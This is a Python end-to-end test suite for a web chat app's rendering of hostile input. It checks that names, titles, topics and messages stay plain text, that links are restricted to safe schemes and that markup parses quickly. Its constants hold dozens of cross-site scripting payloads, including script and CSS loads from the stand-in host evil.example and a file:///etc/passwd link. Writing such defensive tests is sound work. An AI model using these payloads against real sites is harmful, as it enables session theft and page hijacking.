"""Names, texts, titles and topics that would like to be something else than text."""

import json
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from tests.e2e.browser import People, say
from tests.e2e.room_page import shows, visible
from tests.kit.chat import ChatClient
from tests.kit.server import ServerProcess
from tests.kit.transports import RawWebSocket

if TYPE_CHECKING:
    from playwright.async_api import Page

REL = "noopener noreferrer nofollow ugc"
DRAWN = {"A", "CODE", "PRE", "STRONG", "EM"}
PARSE_MS = 50.0
EVIL = "http://evil.example"
NAMES = (
    "<img src=x onerror=hit()>",
    "<b onclick=hit()>Bob</b>",
    "'\"><svg/onload=hit()>",
    "&lt;script&gt;hit()",
)
TITLE = "<img src=x onerror=hit()>"
TOPIC = "</p><script>hit()</script> & \"quotes\" onclick='hit()'"
SCRIPTS = [
    "<script>hit()</script>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=hit()>",
    f'<img src="{EVIL}/x.png">',
    "<svg onload=hit()><animate onbegin=hit() attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<a href='javascript:hit()'>click</a>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "</article></div><script>hit()</script>",
    "<math><mtext></table><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()'>",
    "&#60;img src=x onerror=hit()&#62; &lt;script&gt;hit()&lt;/script&gt;",
    "${hit()} {{hit()}} {% raw hit() %} <%= hit() %>",
    "\\u003cimg src=x onerror=hit()\\u003e",
]
LINKS = [
    "javascript:hit() JavaScript:hit() jav\tascript:hit() &#106;avascript:hit()",
    "data:text/html,<script>hit()</script> vbscript:hit() file:///etc/passwd blob:x",
    "[click](javascript:hit()) <javascript:hit()> ![x](javascript:hit())",
    f"![x]({EVIL}/x.png) ![x](x){{onerror=hit()}}",
    'https://e.example/"onmouseover="hit()" https://e.example/\'onclick=\'hit()',
    "https://javascript:hit()@e.example/ http://e.example/?q=<script>hit()</script>",
    "mailto:a@e.example?subject=<img src=x onerror=hit()>",
    "*<b>* _<i onclick=hit()>_ `<script>hit()</script>` ```<img src=x onerror=hit()>```",
    "HTTPS://E.EXAMPLE/\u202egpj.exe https://e.example/\u2066x\u2069",
]
DIRECTIONS = [
    "\u202eright to left override",
    "\u2066\u2067\u2068 isolates without an end",
    "\u05d0\u05d1\u05d2 Hebrew first \u202d",
    "after it all: plain",
]
SLOW = [
    "[" * 4000,
    "![](" * 1000,
    "*_" * 2000,
    "`" * 3999,
    "http://" * 570,
    "https://e.example/" + "(" * 1900 + ")" * 1900,
    "_a *b " * 660,
    "\n".join("```" for _ in range(1000)),
]
FOUND = """() => [...document.querySelectorAll('.message .text')].map((text) => ({
    text: text.textContent,
    tags: [...text.querySelectorAll('*')].map((element) => element.tagName),
    attributes: [...text.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()),
    links: [...text.querySelectorAll('a')].map((a) => [a.href, a.rel, a.target]),
    dir: text.dir,
    isolation: getComputedStyle(text).unicodeBidi,
}))"""
PARSE = """async ([address, texts]) => {
    const { parseText } = await import(address);
    return texts.map((text) => Math.min(...[1, 2, 3].map(() => {
        const start = performance.now();
        parseText(text);
        return performance.now() - start;
    })));
}"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    config = {
        "limits": {"messages_per_second": 0},
        "room lobby": {"title": TITLE, "topic": TOPIC},
        "room texts": {"title": "Texts"},
    }
    with ServerProcess(tmp_path_factory.mktemp("hostile"), config) as process:
        yield process


class Watch:
    """Notes what must not happen in a page: a call of `hit`, a dialog, a request elsewhere."""

    def __init__(self, page: "Page") -> None:
        self.seen: list[str] = []
        page.on("dialog", lambda dialog: self.seen.append(dialog.message))
        page.on("request", lambda request: self._asked(request.url))
        page.on("popup", lambda popup: self.seen.append(popup.url))

    @classmethod
    async def over(cls, page: "Page") -> "Watch":
        watch = cls(page)
        await page.expose_function("hit", lambda: watch.seen.append("hit"))
        await page.reload()
        return watch

    def _asked(self, url: str) -> None:
        if not url.startswith(("http://127.0.0.1:", "data:image/")):
            self.seen.append(url)


async def test_names_titles_and_topics_are_text_everywhere(
    people: People, server: ServerProcess
) -> None:
    ann = await people.new_person("Ann")
    watch = await Watch.over(ann)
    pages = [await people.new_person(name) for name in NAMES]
    for name, page in zip(NAMES, pages, strict=True):
        await say(page, f"I am {name}")
        await page.locator("#composer").press_sequentially("typing")
        await visible(ann.locator(".members .name").get_by_text(name, exact=True))
        await visible(ann.locator(".message.head .name").get_by_text(name, exact=True))
    await shows(ann, [f"I am {name}" for name in NAMES])
    assert await ann.locator("h1").inner_text() == TITLE
    assert await ann.locator(".bar .topic").inner_text() == TOPIC
    assert TITLE in await ann.title()
    await ann.locator(".activity summary").first.click()
    await _untouched(ann)

    await ann.goto(server.url)
    await visible(ann.locator(".rooms strong").get_by_text(TITLE, exact=True))
    assert await ann.locator("[data-room=lobby] .topic").inner_text() == TOPIC
    await _untouched(ann)
    assert watch.seen == []


async def _untouched(page: "Page") -> None:
    """Assert that there is no element but those that the page draws itself."""
    alien = "img, iframe, object, embed, style, math, body script, b[onclick], [onerror], [onload]"
    assert await page.locator(f":is({alien}):not(head *)").count() == 0
    handlers = """() => [...document.querySelectorAll('*')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith('on')))"""
    assert await page.evaluate(handlers) == []


async def test_texts_are_shown_as_they_are_and_links_are_safe(
    people: People, server: ServerProcess
) -> None:
    ann = await people.new_person("Ann", "texts")
    watch = await Watch.over(ann)
    texts = [*SCRIPTS, *LINKS, *DIRECTIONS]
    async with await ChatClient.enter(RawWebSocket(), server.at, "texts", name="Eve") as eve:
        for text in texts:
            await eve.send("texts", text)
    marks = re.compile("[`*_]")
    await ann.wait_for_function(
        "(count) => document.querySelectorAll('.message').length === count", arg=len(texts)
    )
    found = await ann.evaluate(FOUND)
    for text, shown in zip(texts, found, strict=True):
        assert marks.sub("", shown["text"]) == marks.sub("", text)
        assert set(shown["tags"]) <= DRAWN, text
        assert set(shown["attributes"]) <= {"href", "rel", "target", "tabindex"}, text
        assert (shown["dir"], shown["isolation"]) == ("auto", "isolate")
        for href, rel, target in shown["links"]:
            assert href.startswith(("http://", "https://", "mailto:")), href
            assert (rel, target) == (REL, "_blank")
            assert not re.search('["<>\u202a-\u202e\u2066-\u2069]', href), href
    assert sum(len(shown["links"]) for shown in found) >= 6
    await _untouched(ann)
    assert watch.seen == []


async def test_no_text_takes_long_to_read(people: People, server: ServerProcess) -> None:
    ann = await people.new_person("Ann", "texts")
    module = await ann.evaluate(
        "() => document.querySelector('script[type=module]').src.replace('element.js', 'format.js')"
    )
    longest = [text[:4000] for text in SLOW]
    times = dict(zip(longest, await ann.evaluate(PARSE, [module, longest]), strict=True))
    assert all(ms <= PARSE_MS for ms in times.values()), json.dumps(times)
